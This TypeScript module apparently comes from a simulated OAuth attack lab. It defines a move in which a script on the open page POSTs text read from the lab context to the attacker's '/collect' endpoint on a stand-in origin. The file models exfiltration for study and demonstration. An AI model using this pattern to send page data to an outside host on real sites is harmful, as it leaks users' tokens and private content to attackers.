import type { HttpRequest } from '@/lib/oauth/http'
import { fetchRequest } from '@/lib/user-agent/browser'
import { LabRefusal } from '../refusal'
import type { Move, MoveContext } from './move'

/** A script of the open page sends text to Mallory's site, without asking for an answer it could read. */
export function collected(read: (context: MoveContext) => string): Move {
  return {
    from: 'browser',
    async prepare(context): Promise<HttpRequest> {
      const { lab } = context
      if (!lab.browser.page) throw new LabRefusal(409, 'The browser shows no page whose script could send anything.')
      return fetchRequest(lab.browser, {
        method: 'POST',
        url: `${lab.origins.attacker}/collect`,
        headers: [['content-type', 'text/plain;charset=UTF-8']],
        body: read(context),
      })
    },
    settle: async (_context, _request, response) => (response.status >= 400 ? 'refusal' : 'confirmation'),
  }
}
